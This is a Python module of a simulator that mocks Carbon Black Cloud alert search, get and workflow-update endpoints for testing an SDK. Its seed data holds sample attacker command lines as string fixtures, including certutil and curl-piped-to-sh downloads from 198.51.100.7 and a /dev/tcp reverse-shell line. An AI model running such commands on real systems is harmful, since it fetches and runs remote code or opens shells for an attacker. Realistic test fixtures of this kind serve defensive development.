"""Alerts v7: seeded alerts, search, get, and the workflow update that runs as a job (facts sections 10 and 12).

Sources: the SDK's ``platform/alerts.py`` (routes, request bodies, paging), ``platform/models/workflow.yaml``
(enumerations) and the recorded answers in ``mock_alerts_v7.py`` and ``mock_alert_v6_v7_compatibility.py``.

Seeded alerts (``--alerts N``, org ABCD1234 only; default 0) are deterministic from ``--seed``, on the org's
simulated devices, with ``backend_timestamp`` spread over the 14 days before the start time. Two in three are
``WATCHLIST`` alerts with the key set of the recorded search result (``ALERT_SEARCH_RESPONSE``), the others
``CB_ANALYTICS`` alerts with the key set of the recorded ``GET_ALERT_v7_CB_ANALYTICS_RESPONSE``. Alerts come in
threats: several alerts share a ``threat_id``, process and severity. Every seeded alert is OPEN, as created by
the system (``changed_by_type`` SYSTEM, ``changed_by`` ALERT_CREATION), with ``user_update_timestamp`` null.

Search (``POST .../alerts/_search``), body keys ``criteria``, ``exclusions``, ``query``, ``time_range``,
``sort``, ``rows``, ``start`` (others → 400):

* ``criteria``/``exclusions``: ``{field: [values]}`` with the semantics of ``search.py`` (AND across fields,
  OR within, strings case-insensitive, numbers match their string form). Nested fields are searched under
  the SDK's flat names: ``workflow_status``, ``workflow_closure_reason``, ``workflow_change_timestamp``,
  ``determination_value``, ``watchlists_id``... (``<object>_<key>``). ``criteria.minimum_severity`` is a bare
  integer (severity >= it). Time criteria take ``{"range": "-3d"}`` or ``{"start", "end"}`` on the SDK's
  time keys only (``TIME_CRITERIA``; another field with an object → 400); units s, m, h, d, w, M (30 days), y.
* ``time_range``: the same object, on ``backend_timestamp``. Bounds are inclusive.
* ``query``: the Lucene subset of ``search.py``; a bare word is a case-insensitive substring of the alert's
  ``id``, ``type``, ``reason``, ``threat_id``, ``device_name`` or ``process_name`` (choice), ``field:value``
  matches a field exactly (also the flat nested names, or ``workflow.status``).
* ``sort``: ``[{"field", "order"}]``; without it, ascending ``backend_timestamp`` (choice); ties by ``id``.
* ``start`` is 1-based (0 and 1 mean the first row), ``rows`` defaults to 100 (the SDK's default batch;
  the server's own default is [UNVERIFIED]) and may be 0..10000 (more → 400). Only the first 10,000 matches
  can be read (the SDK's ``MAX_RESULTS_LIMIT``): a page is cut at the 10,000th match, and ``start`` above
  10,000 → 500, as the SDK's comment says reading past the limit does. ``num_found`` counts every match,
  ``num_available`` at most 10,000 (both 1236 in the recording, so their difference is an [UNVERIFIED] choice).

Workflow (``POST .../alerts/workflow``): the selection (``criteria``, ``exclusions``, ``query``, ``time_range``;
``sort`` is accepted and ignored; ``rows``/``start`` → 400), plus ``status`` (OPEN, IN_PROGRESS, CLOSED),
``closure_reason`` (NO_REASON, RESOLVED, RESOLVED_BENIGN_KNOWN_GOOD, DUPLICATE_CLEANUP, OTHER),
``determination`` (TRUE_POSITIVE, FALSE_POSITIVE, NONE) and ``note`` (string). Answer 200
``{"request_id": "<job id>"}``; the change happens when the job completes (``jobs.py``), on the alerts that
match the selection then. Choices where the sources are silent ([UNVERIFIED]):

* at least one of ``status``/``determination`` is required, ``closure_reason`` only with ``status``, and the
  selection must not be empty (400: one call must not close every alert of an org by accident);
* a ``status`` without ``closure_reason`` sets ``closure_reason`` NO_REASON;
* every matching alert is updated, also one already in the wanted state (the timestamps move);
* changed: ``workflow`` (status, closure_reason, change_timestamp, ``changed_by_type`` API, ``changed_by`` the
  caller's API ID or client id) when ``status`` is given, ``determination`` (value, change_timestamp,
  changed_by_type, changed_by) when ``determination`` is given, and ``user_update_timestamp`` and
  ``backend_update_timestamp``; ``backend_timestamp`` never changes. The ``note`` is kept in the job only.
"""

import copy
import random
import re
import uuid
from datetime import datetime, timedelta, timezone

from cbcsim import jobs
from cbcsim.protocol import ApiError, Response, bad_request, not_found
from cbcsim.routing import ORG
from cbcsim.search import SearchRequest, TimeRange, format_time, parse_time, sort_records

ALERT_BASE = "/api/alerts/v7/orgs/" + ORG + "/alerts"

MAX_RESULTS = 10000
MAX_ROWS = 10000
DEFAULT_ROWS = 100
WORKFLOW_STATUSES = ("OPEN", "IN_PROGRESS", "CLOSED")
CLOSURE_REASONS = ("NO_REASON", "RESOLVED", "RESOLVED_BENIGN_KNOWN_GOOD", "DUPLICATE_CLEANUP", "OTHER")
DETERMINATIONS = ("TRUE_POSITIVE", "FALSE_POSITIVE", "NONE")
#: Fields a criteria/exclusions time range may name (SDK ``AlertSearchQuery._is_valid_time_criteria_key``).
TIME_CRITERIA = ("backend_update_timestamp", "detection_timestamp", "first_event_timestamp", "last_event_timestamp",
                 "mdr_determination_change_timestamp", "mdr_workflow_change_timestamp", "user_update_timestamp",
                 "workflow_change_timestamp")
SEARCH_KEYS = ("criteria", "exclusions", "query", "time_range", "sort", "rows", "start")
SELECTION_KEYS = ("criteria", "exclusions", "query", "time_range")
WORKFLOW_KEYS = SELECTION_KEYS + ("sort", "status", "closure_reason", "determination", "note")
#: Fields a bare query word is looked for in.
TEXT_FIELDS = ("id", "type", "reason", "threat_id", "device_name", "process_name")
#: search.py matches bare query words against this key of the record it is given; no v7 alert has such a
#: field, so the flat search view of an alert puts the text of TEXT_FIELDS there.
_BARE_WORD_KEY = "name"
_MONTH_RANGE = re.compile(r"^\s*-(\d+)M\s*$")
URL_HOST = "defense.example.com"

# --- seed data -------------------------------------------------------------------------------------------

#: (process name, command line, issuer, publisher) per device OS.
PROCESSES = {
    "WINDOWS": (
        ("cmd.exe", "cmd.exe /c InfDefaultInstall.exe C:\\Users\\Public\\setup.inf",
         "Microsoft Windows Production PCA 2011", "Microsoft Windows"),
        ("powershell.exe", "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA",
         "Microsoft Windows Production PCA 2011", "Microsoft Windows"),
        ("rundll32.exe", "rundll32.exe C:\\Users\\Public\\helper.dll,Start",
         "Microsoft Windows Production PCA 2011", "Microsoft Windows"),
        ("certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.bin a.bin",
         "Microsoft Windows Production PCA 2011", "Microsoft Windows"),
        ("updater.exe", "C:\\Users\\Public\\updater.exe --silent", "Example Code Signing CA", "Example Software Ltd"),
    ),
    "LINUX": (
        ("/usr/bin/curl", "curl -s http://198.51.100.7/install.sh", None, None),
        ("/usr/bin/bash", "bash -c 'exec 5<>/dev/tcp/198.51.100.7/4444'", None, None),
        ("/usr/bin/python3", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", None, None),
    ),
    "MAC": (
        ("/bin/zsh", "zsh -c 'curl -s http://198.51.100.7/p | sh'", None, None),
        ("/usr/bin/osascript", "osascript -e 'do shell script \"id\"'", "Apple Code Signing Certification Authority",
         "Apple Inc."),
    ),
}
PARENTS = {"WINDOWS": "c:\\windows\\explorer.exe", "LINUX": "/usr/sbin/sshd", "MAC": "/sbin/launchd"}
#: (report name, watchlist name) of WATCHLIST threats.
REPORTS = (
    ("Defense Evasion - Signed Binary Proxy Execution", "Carbon Black Advanced Threats"),
    ("Execution - Suspicious Command Line Interpreter", "ATT&CK Framework"),
    ("Credential Access - Suspect Volume Shadow Copy Behavior", "Carbon Black Advanced Threats"),
    ("Command and Control - Ingress Tool Transfer", "ATT&CK Framework"),
)
#: (reason code, reason, ttps, attack tactic) of CB_ANALYTICS threats.
ANALYTICS = (
    ("T_REP_VIRUS", "A known virus was detected running.", ["RUN_MALWARE_APP", "MALWARE_APP"], "TA0002"),
    ("T_SUSPICIOUS_CMD", "A suspicious command line was run by a script interpreter.",
     ["MITRE_T1059_CMD_LINE_OR_SCRIPT_INTER", "RUN_CMD_SHELL"], "TA0002"),
    ("T_POL_TERM", "The application tried to inject code into another process and was terminated.",
     ["INJECT_CODE", "POLICY_TERMINATE"], "TA0005"),
)
SEVERITIES = (1, 2, 3, 3, 4, 4, 5, 5, 6, 7, 8, 9, 10)


def _hex(rng, bits):
    return "{0:0{1}x}".format(rng.getrandbits(bits), bits // 4)


def _alert_id(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _event_id(rng):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"
    return "".join(rng.choice(alphabet) for _position in range(22)) + "-0"


def _make_threat(index, rng):
    """One threat: the type, severity and process that all its alerts share."""
    os_name = ("WINDOWS", "LINUX", "WINDOWS", "MAC")[index % 4]
    process = rng.choice(PROCESSES[os_name])
    threat = {"os": os_name, "process": process, "severity": rng.choice(SEVERITIES),
              "sha256": _hex(rng, 256), "md5": _hex(rng, 128), "parent_sha256": _hex(rng, 256)}
    if index % 3 == 2:
        threat["type"] = "CB_ANALYTICS"
        threat["analytics"] = ANALYTICS[index % len(ANALYTICS)]
        threat["threat_id"] = _hex(rng, 128)
    else:
        threat["type"] = "WATCHLIST"
        threat["report"] = REPORTS[index % len(REPORTS)]
        threat["report_id"] = "{0}-report{1:02d}".format(_hex(rng, 64), index)
        threat["watchlist_id"] = _hex(rng, 80)
        threat["threat_id"] = _hex(rng, 128).upper()
    return threat


def _device_fields(org, device):
    """The alert's ``device_*`` values from a simulated device (or placeholders without one)."""
    if device is None:
        return {"device_id": org.device_id_base, "device_name": org.name_prefix + "host-unknown", "device_uem_id": "",
                "device_target_value": "MEDIUM", "device_policy": "Standard", "device_policy_id": 0,
                "device_os": "WINDOWS", "device_os_version": "Windows 10 x64", "device_username": "",
                "device_location": "UNKNOWN", "device_external_ip": "203.0.113.1", "device_internal_ip": "10.20.0.1"}
    return {"device_id": device["id"], "device_name": device["name"], "device_uem_id": "",
            "device_target_value": device["target_priority"], "device_policy": device["policy_name"],
            "device_policy_id": device["policy_id"], "device_os": device["os"], "device_os_version": device["os_version"],
            "device_username": device.get("email") or "", "device_location": device["last_location"],
            "device_external_ip": device["last_external_ip_address"],
            "device_internal_ip": device.get("last_internal_ip_address") or ""}


def make_alert(org, threat, device, created, rng, alert_id=None):
    """Build one alert of ``threat`` on ``device`` whose backend created it at ``created`` (aware datetime)."""
    alert_id = alert_id or _alert_id(rng)
    detected = created - timedelta(seconds=rng.randint(20, 600), milliseconds=rng.randint(0, 999))
    first_event = detected - timedelta(seconds=rng.randint(0, 900), milliseconds=rng.randint(0, 999))
    last_event = first_event + (detected - first_event) * rng.random()
    backend = format_time(created)
    name, cmdline, issuer, publisher = threat["process"]
    dev = _device_fields(org, device)
    pid = rng.randint(400, 9999999)
    guid_device = "{0:08x}".format(dev["device_id"] % 0xFFFFFFFF)
    alert = {
        "org_key": org.org_key,
        "alert_url": "{0}/alerts?s[c][query_string]=id:{1}&orgKey={2}".format(URL_HOST, alert_id, org.org_key),
        "id": alert_id,
        "type": threat["type"],
        "backend_timestamp": backend,
        "user_update_timestamp": None,
        "backend_update_timestamp": backend,
        "detection_timestamp": format_time(detected),
        "first_event_timestamp": format_time(first_event),
        "last_event_timestamp": format_time(last_event),
        "severity": threat["severity"],
    }
    if threat["type"] == "WATCHLIST":
        report_name, watchlist_name = threat["report"]
        alert.update({
            "reason": 'Process {0} was detected by the report "{1}" in watchlist "{2}"'.format(
                name.rsplit("/", 1)[-1], report_name, watchlist_name),
            "reason_code": "{0}:{1}".format(uuid.UUID(int=rng.getrandbits(128)), uuid.UUID(int=rng.getrandbits(128))),
            "threat_id": threat["threat_id"],
            "primary_event_id": _event_id(rng),
            "policy_applied": "NOT_APPLIED",
            "run_state": "RAN",
            "sensor_action": "ALLOW",
        })
    else:
        reason_code, reason, _ttps, _tactic = threat["analytics"]
        applied = rng.random() < 0.6
        alert.update({
            "reason": reason,
            "reason_code": reason_code,
            "threat_id": threat["threat_id"],
            "primary_event_id": _hex(rng, 128),
            "policy_applied": "APPLIED" if applied else "NOT_APPLIED",
            "run_state": "RAN",
            "sensor_action": "TERMINATE" if applied else "ALLOW",
        })
    alert.update({
        "workflow": {"change_timestamp": backend, "changed_by_type": "SYSTEM", "changed_by": "ALERT_CREATION",
                     "closure_reason": "NO_REASON", "status": "OPEN"},
        "determination": {"change_timestamp": backend, "value": "NONE", "changed_by_type": "SYSTEM",
                          "changed_by": "ALERT_CREATION"},
        "tags": None,
        "alert_notes_present": False,
        "threat_notes_present": False,
    })
    if threat["type"] == "WATCHLIST":
        alert["asset_id"] = None
    alert["is_updated"] = False
    alert.update({key: value for key, value in dev.items() if key != "device_internal_ip"})
    if threat["type"] != "WATCHLIST":
        alert["device_internal_ip"] = dev["device_internal_ip"]
    alert.update({"mdr_alert": False, "mdr_alert_notes_present": False, "mdr_threat_notes_present": False})
    process = {
        "process_guid": "{0}-{1}-{2:08x}-00000000-1d9c5a3876ed575".format(org.org_key, guid_device, pid),
        "process_pid": pid,
        "process_name": name,
        "process_sha256": threat["sha256"],
        "process_md5": threat["md5"],
        "process_effective_reputation": "LOCAL_WHITE" if threat["type"] == "WATCHLIST" else "KNOWN_MALWARE",
        "process_reputation": "NOT_LISTED" if threat["type"] == "WATCHLIST" else "KNOWN_MALWARE",
        "process_cmdline": cmdline,
        "process_username": dev["device_username"] or "SYSTEM",
        "process_issuer": [issuer] if issuer else [],
        "process_publisher": [publisher] if publisher else [],
    }
    if threat["type"] == "WATCHLIST":
        report_name, watchlist_name = threat["report"]
        alert.update({
            "report_id": threat["report_id"],
            "report_name": report_name,
            "report_description": "Simulated watchlist report: " + report_name,
            "report_tags": [],
            "ioc_id": threat["report_id"] + "-ioc01",
            "ioc_hit": "process_name:" + name.rsplit("/", 1)[-1],
            "watchlists": [{"id": threat["watchlist_id"], "name": watchlist_name}],
        })
        alert.update(process)
        alert.update({"childproc_guid": "", "childproc_username": "", "childproc_cmdline": ""})
        return alert
    _code, _reason, ttps, tactic = threat["analytics"]
    alert["ttps"] = list(ttps)
    alert["attack_tactic"] = tactic
    alert.update(process)
    parent = PARENTS.get(dev["device_os"], PARENTS["WINDOWS"])
    alert.update({
        "parent_guid": "{0}-{1}-{2:08x}-00000000-1d9c5a385ff6892".format(org.org_key, guid_device, pid // 2),
        "parent_pid": pid // 2,
        "parent_name": parent,
        "parent_sha256": threat["parent_sha256"],
        "parent_md5": "",
        "parent_effective_reputation": "TRUSTED_WHITE_LIST",
        "parent_reputation": "TRUSTED_WHITE_LIST",
        "parent_cmdline": None,
        "parent_username": alert["process_username"],
        "childproc_guid": "{0}-{1}-00000000-00000000-19db1ded53e8000".format(org.org_key, guid_device),
        "childproc_name": "",
        "childproc_sha256": "",
        "childproc_md5": "",
        "childproc_effective_reputation": "RESOLVING",
        "childproc_username": alert["process_username"],
        "childproc_cmdline": "",
    })
    return alert


def _devices_by_os(org):
    by_os = {}
    for device_id in sorted(org.devices):
        device = org.devices[device_id]
        by_os.setdefault(device["os"], []).append(device)
    return by_os


def _pick_device(by_os, os_name, rng):
    candidates = by_os.get(os_name) or [device for devices in by_os.values() for device in devices]
    return rng.choice(candidates) if candidates else None


def seed_alerts(org, count, seed, now):
    """Return ``count`` alerts for ``org`` (deterministic from ``seed``; times before ``now``), oldest first."""
    rng = random.Random("alerts:{0}:{1}".format(org.org_key, seed))
    threats = [_make_threat(index, rng) for index in range(max(1, count // 3))]
    by_os = _devices_by_os(org)
    alerts = []
    for _index in range(count):
        threat = rng.choice(threats)
        device = _pick_device(by_os, threat["os"], rng)
        created = now - timedelta(seconds=rng.randint(300, 14 * 86400), milliseconds=rng.randint(0, 999))
        alerts.append(make_alert(org, threat, device, created, rng))
    alerts.sort(key=lambda alert: (alert["backend_timestamp"], alert["id"]))
    return alerts


def _merge(base, extra):
    """Deep-merge ``extra`` into ``base`` (objects merge key by key; anything else replaces)."""
    for key, value in extra.items():
        if isinstance(value, dict) and isinstance(base.get(key), dict):
            _merge(base[key], value)
        else:
            base[key] = copy.deepcopy(value)
    return base


def build_alert(org, spec, rng, now):
    """An alert for the control API: a generated one of ``spec["type"]`` (WATCHLIST by default; other types get
    the CB_ANALYTICS field set) on ``spec["device_id"]`` (a device of the org) or a random device, created at
    ``spec["backend_timestamp"]`` or now, with every field of ``spec`` merged over it."""
    if not isinstance(spec, dict):
        raise bad_request("each alert must be a JSON object")
    wanted_type = spec.get("type", "WATCHLIST")
    threat = _make_threat(0 if wanted_type == "WATCHLIST" else 2, rng)
    device = org.devices.get(spec.get("device_id")) if isinstance(spec.get("device_id"), int) else None
    if device is None and "device_id" not in spec:
        device = _pick_device(_devices_by_os(org), threat["os"], rng)
    created = now
    if "backend_timestamp" in spec:
        created = parse_time(spec["backend_timestamp"])
        if created is None:
            raise bad_request("backend_timestamp must be an ISO-8601 timestamp")
    alert = make_alert(org, threat, device, created, rng, alert_id=spec.get("id") or str(uuid.uuid4()))
    return _merge(alert, spec)


# --- search --------------------------------------------------------------------------------------------


def _normalise_range(section, field, spec):
    """Validate a time filter object; ``-NM`` (months, which search.py does not know) becomes ``-<30N>d``."""
    if not isinstance(spec, dict):
        raise bad_request("{0}.{1} must be an object with range or start/end".format(section, field))
    spec = dict(spec)
    match = _MONTH_RANGE.match(str(spec.get("range", "")))
    if match:
        spec["range"] = "-{0}d".format(int(match.group(1)) * 30)
    return spec


def _field_filters(section, spec, allow_minimum):
    """Validate a criteria/exclusions object; return ``(filters for search.py, minimum_severity or None)``."""
    if spec is None:
        return {}, None
    if not isinstance(spec, dict):
        raise bad_request("{0} must be a JSON object".format(section))
    filters = {}
    minimum = None
    for field, values in spec.items():
        if field == "minimum_severity":
            if not allow_minimum:
                raise bad_request("minimum_severity belongs in criteria, not in {0}".format(section))
            if isinstance(values, bool) or not isinstance(values, int):
                raise bad_request("criteria.minimum_severity must be an integer (not an array)")
            minimum = values
        elif isinstance(values, dict):
            if field not in TIME_CRITERIA:
                raise bad_request("{0}.{1} does not take a time range; time fields: {2}".format(
                    section, field, ", ".join(TIME_CRITERIA)))
            filters[field] = _normalise_range(section, field, values)
        else:
            filters[field] = values
    return filters, minimum


def search_view(alert):
    """The flat record search.py matches: the alert's keys, ``<object>_<key>`` and ``<object>.<key>`` for nested
    objects (lists of objects give lists), and the bare-word text."""
    view = dict(alert)
    for key, value in alert.items():
        if isinstance(value, dict):
            for sub, item in value.items():
                view.setdefault("{0}_{1}".format(key, sub), item)
                view.setdefault("{0}.{1}".format(key, sub), item)
        elif isinstance(value, list) and value and all(isinstance(item, dict) for item in value):
            subs = {sub for item in value for sub in item}
            for sub in subs:
                items = [item.get(sub) for item in value]
                view.setdefault("{0}_{1}".format(key, sub), items)
                view.setdefault("{0}.{1}".format(key, sub), items)
    if _BARE_WORD_KEY not in alert:
        view[_BARE_WORD_KEY] = " ".join(str(alert.get(field) or "") for field in TEXT_FIELDS)
    return view


class AlertSelection:
    """The alerts a search or workflow body selects: criteria, minimum_severity, exclusions, query, time_range."""

    def __init__(self, body, sort=None):
        criteria, self.minimum = _field_filters("criteria", body.get("criteria"), True)
        exclusions, _unused = _field_filters("exclusions", body.get("exclusions"), False)
        self.request = SearchRequest({"criteria": criteria, "exclusions": exclusions, "query": body.get("query"),
                                      "sort": sort})
        self.time_range = None
        if body.get("time_range") is not None:
            self.time_range = TimeRange("time_range", _normalise_range("time_range", "backend_timestamp", body["time_range"]))

    def matches(self, alert):
        """True if the alert is selected."""
        if self.minimum is not None:
            severity = alert.get("severity")
            if isinstance(severity, bool) or not isinstance(severity, (int, float)) or severity < self.minimum:
                return False
        if self.time_range is not None and not self.time_range.contains(alert.get("backend_timestamp")):
            return False
        return self.request.matches(search_view(alert))

    def select(self, alerts):
        """Return the selected alerts, sorted (default: ascending backend_timestamp, then id)."""
        found = sorted((alert for alert in alerts if self.matches(alert)),
                       key=lambda alert: (str(alert.get("backend_timestamp") or ""), str(alert.get("id"))))
        if self.request.sort:
            views = [search_view(alert) for alert in found]
            by_view = {id(view): alert for view, alert in zip(views, found)}
            sort_records(views, self.request.sort)
            found = [by_view[id(view)] for view in views]
        return found


def _int_key(body, name, default, minimum, maximum=None):
    value = body.get(name, default)
    if value is None:
        return default
    if isinstance(value, bool) or not isinstance(value, int):
        raise bad_request("{0} must be an integer".format(name))
    if value < minimum or (maximum is not None and value > maximum):
        limit = "at least {0}".format(minimum) if maximum is None else "{0} to {1}".format(minimum, maximum)
        raise bad_request("{0} must be {1} (got {2})".format(name, limit, value))
    return value


def _check_keys(body, allowed, section):
    if not isinstance(body, dict):
        raise bad_request("{0} body must be a JSON object".format(section))
    unknown = sorted(set(body) - set(allowed))
    if unknown:
        raise bad_request("unknown {0} key(s): {1}; known: {2}".format(section, ", ".join(unknown), ", ".join(allowed)))


def search_alerts(ctx):
    """``POST /api/alerts/v7/orgs/{org_key}/alerts/_search``."""
    body = ctx.json(default={})
    _check_keys(body, SEARCH_KEYS, "search")
    rows = _int_key(body, "rows", DEFAULT_ROWS, 0, MAX_ROWS)
    start = _int_key(body, "start", 1, 0)
    offset = max(start - 1, 0)
    if offset >= MAX_RESULTS:
        raise ApiError(500, "INTERNAL_SERVER_ERROR",
                       "start {0} is past the {1} results a search can return; narrow the search".format(start, MAX_RESULTS))
    selection = AlertSelection(body, sort=body.get("sort"))
    org = ctx.state.org(ctx.org_key)
    with ctx.state.lock:
        jobs.complete_due(org)
        found = selection.select(org.alerts)
        page = copy.deepcopy(found[offset:min(offset + rows, MAX_RESULTS)])
    return Response(200, {"results": page, "num_found": len(found), "num_available": min(len(found), MAX_RESULTS)})


def get_alert(ctx):
    """``GET /api/alerts/v7/orgs/{org_key}/alerts/{alert_id}``."""
    org = ctx.state.org(ctx.org_key)
    with ctx.state.lock:
        jobs.complete_due(org)
        for alert in org.alerts:
            if str(alert.get("id")) == ctx.params["alert_id"]:
                return Response(200, copy.deepcopy(alert))
    raise not_found("Alert {0} not found".format(ctx.params["alert_id"]))


# --- workflow --------------------------------------------------------------------------------------------


def _enum(body, key, allowed):
    value = body.get(key)
    if value is None:
        return None
    if value not in allowed:
        raise ApiError(400, "INVALID_REQUEST", "{0} must be one of {1}, not {2!r}".format(key, ", ".join(allowed), value),
                       extra={"field": key, "invalid_value": str(value), "known_values": list(allowed)})
    return value


def _apply_workflow(alert, change, when, actor):
    stamp = format_time(when)
    if change["status"] is not None:
        workflow = alert.get("workflow") if isinstance(alert.get("workflow"), dict) else {}
        workflow.update({"change_timestamp": stamp, "changed_by_type": "API", "changed_by": actor,
                         "closure_reason": change["closure_reason"] or "NO_REASON", "status": change["status"]})
        alert["workflow"] = workflow
    if change["determination"] is not None:
        alert["determination"] = {"change_timestamp": stamp, "value": change["determination"], "changed_by_type": "API",
                                  "changed_by": actor}
    alert["user_update_timestamp"] = stamp
    alert["backend_update_timestamp"] = stamp


def update_workflow(ctx):
    """``POST /api/alerts/v7/orgs/{org_key}/alerts/workflow`` → 200 ``{"request_id": "<job id>"}``."""
    body = ctx.json(default={})
    if isinstance(body, dict) and ("rows" in body or "start" in body):
        raise bad_request("a workflow update covers every matching alert: rows/start are not allowed")
    _check_keys(body, WORKFLOW_KEYS, "workflow")
    change = {"status": _enum(body, "status", WORKFLOW_STATUSES),
              "closure_reason": _enum(body, "closure_reason", CLOSURE_REASONS),
              "determination": _enum(body, "determination", DETERMINATIONS)}
    note = body.get("note")
    if note is not None and not isinstance(note, str):
        raise bad_request("note must be a string")
    if change["closure_reason"] is not None and change["status"] is None:
        raise bad_request("closure_reason is set together with status")
    if change["status"] is None and change["determination"] is None:
        raise bad_request("a workflow update needs status and/or determination")
    if not any(body.get(key) for key in SELECTION_KEYS):
        raise bad_request("a workflow update needs a selection (criteria, exclusions, query or time_range)")
    selection = AlertSelection(body)
    actor = ctx.identity.name if ctx.identity is not None else "unknown"
    org = ctx.state.org(ctx.org_key)

    def apply(when):
        changed = []
        for alert in org.alerts:
            if selection.matches(alert):
                _apply_workflow(alert, change, when, actor)
                changed.append(alert.get("id"))
        return changed

    dto = {"change_timestamp": format_time(datetime.now(timezone.utc)), "changed_by_type": "API", "changed_by": actor}
    if change["status"] is not None:
        dto["closure_reason"] = change["closure_reason"] or "NO_REASON"
        dto["status"] = change["status"]
    with ctx.state.lock:
        jobs.complete_due(org)
        job = jobs.create_job(ctx.state, org, "user_workflow_update", actor,
                              {"request": copy.deepcopy(body), "userWorkflowDto": dto}, apply)
    ctx.log_fields["request_id"] = str(job.id)
    return Response(200, {"request_id": str(job.id)})


def register(table):
    """Add the alert routes to ``table``."""
    table.add("POST", ALERT_BASE + r"/_search", search_alerts, "alerts.search", permission="org.alerts:READ")
    table.add("POST", ALERT_BASE + r"/workflow", update_workflow, "alerts.workflow", permission="org.alerts.close:EXECUTE",
              write=True)
    table.add("GET", ALERT_BASE + r"/(?P<alert_id>[^/_][^/]*)", get_alert, "alerts.get", permission="org.alerts:READ")


# --- control API ---------------------------------------------------------------------------------------


def _control_org_key(ctx, body=None):
    if body is not None and body.get("org_key") is not None:
        return body["org_key"]
    return (ctx.query.get("org_key") or ["ABCD1234"])[-1]


def control_list(ctx):
    """``GET /_sim/alerts?org_key=ABCD1234`` → ``{"org_key", "count", "alerts": [...]}`` (due jobs completed first)."""
    org_key = _control_org_key(ctx)
    org = ctx.state.org(org_key)
    with ctx.state.lock:
        jobs.complete_due(org)
        return Response(200, {"org_key": org_key, "count": len(org.alerts), "alerts": copy.deepcopy(org.alerts)})


def control_add(ctx):
    """``POST /_sim/alerts`` with ``{"alerts": [partial alert, ...]}`` and/or ``{"count": N}`` (optional
    ``org_key``) → 201 ``{"org_key", "added": [stored alerts]}``. See ``build_alert`` for the defaults."""
    body = ctx.json(default={})
    unknown = sorted(set(body) - {"org_key", "alerts", "count"})
    if unknown:
        raise bad_request("unknown key(s): {0}; use alerts, count, org_key".format(", ".join(unknown)))
    specs = body.get("alerts", [])
    count = body.get("count", 0)
    if not isinstance(specs, list) or isinstance(count, bool) or not isinstance(count, int) or count < 0:
        raise bad_request("alerts must be an array and count a non-negative integer")
    org_key = _control_org_key(ctx, body)
    org = ctx.state.org(org_key)
    with ctx.state.lock:
        rng = random.Random("alerts-added:{0}:{1}".format(org_key, len(org.alerts)))
        now = datetime.now(timezone.utc)
        added = [build_alert(org, spec, rng, now) for spec in specs] + [build_alert(org, {}, rng, now) for _number in range(count)]
        known = {alert.get("id") for alert in org.alerts}
        for alert in added:
            if alert.get("id") in known:
                raise bad_request("alert id {0} already exists in {1}".format(alert.get("id"), org_key))
            known.add(alert.get("id"))
        org.alerts.extend(added)
        return Response(201, {"org_key": org_key, "added": copy.deepcopy(added)})


def control_clear(ctx):
    """``DELETE /_sim/alerts?org_key=ABCD1234`` → ``{"cleared": n}``."""
    org = ctx.state.org(_control_org_key(ctx))
    with ctx.state.lock:
        count = len(org.alerts)
        org.alerts[:] = []
    return Response(200, {"cleared": count})


def register_control(table):
    """Add the alert control routes (``/_sim/alerts``) to the control table."""
    table.add("GET", r"/_sim/alerts", control_list, "sim.alerts", auth="none")
    table.add("POST", r"/_sim/alerts", control_add, "sim.alerts", auth="none")
    table.add("DELETE", r"/_sim/alerts", control_clear, "sim.alerts", auth="none")
